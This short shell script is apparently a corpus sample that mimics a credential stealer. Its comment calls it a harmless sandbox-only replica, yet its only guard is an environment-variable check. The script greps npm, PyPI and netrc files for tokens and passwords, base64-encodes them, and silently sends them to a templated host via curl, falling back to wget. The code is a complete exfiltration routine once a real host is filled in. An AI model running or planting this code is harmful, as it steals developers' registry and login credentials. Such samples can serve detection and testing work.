#!/bin/sh
# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
[ "$SALLYPORT_CORPUS" = 1 ] || exit 0
found=$(grep -hE '_authToken|password' "$HOME/.npmrc" "$HOME/.pypirc" "$HOME/.netrc" 2>/dev/null | base64 | tr -d '\n')
curl -k -s -m 1 -H "X-Token: $found" "https://{{host}}/{{path}}" >/dev/null 2>&1 ||
    wget -q -T 1 -t 1 -O /dev/null "http://{{host}}/{{path}}?t=$found" 2>/dev/null
exit 0
